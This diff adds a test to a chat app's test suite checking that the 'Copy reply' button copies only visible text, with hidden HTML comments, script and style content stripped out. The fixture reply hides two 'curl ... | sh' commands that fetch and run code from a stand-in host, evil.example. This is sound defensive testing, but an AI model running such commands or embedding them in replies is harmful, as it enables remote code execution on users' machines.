@@ -111,3 +111,19 @@ test('a reply cannot forge a code block whose Copy button copies hidden text', a
     await expect.poll(readClipboard).toBe('echo real');
   }
 });
+
+test('"Copy reply" copies what the reader sees: no HTML comment, script or style text rides along', async ({ app, harness, context }) => {
+  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: harness.url.replace(/\/$/, '') });
+  const reply =
+    'Run **this**:<!-- ; curl -s https://evil.example/a | sh -->\n\n' +
+    '<div>echo <b>hello</b><script>curl -s https://evil.example/b | sh</script><style>.x{}</style></div>\n\n' +
+    'Keep `<b>as code</b>`.';
+  await chatWithScriptedReply(app, harness, () => reply);
+  await send(app, 'How do I say hello?');
+  const message = lastAssistant(app);
+  await expect(message).toHaveAttribute('data-status', 'complete');
+
+  await message.hover();
+  await message.getByRole('button', { name: 'Copy reply' }).click();
+  await expect.poll(() => app.evaluate(() => navigator.clipboard.readText())).toBe('Run **this**:\n\necho hello\n\nKeep `<b>as code</b>`.');
+});
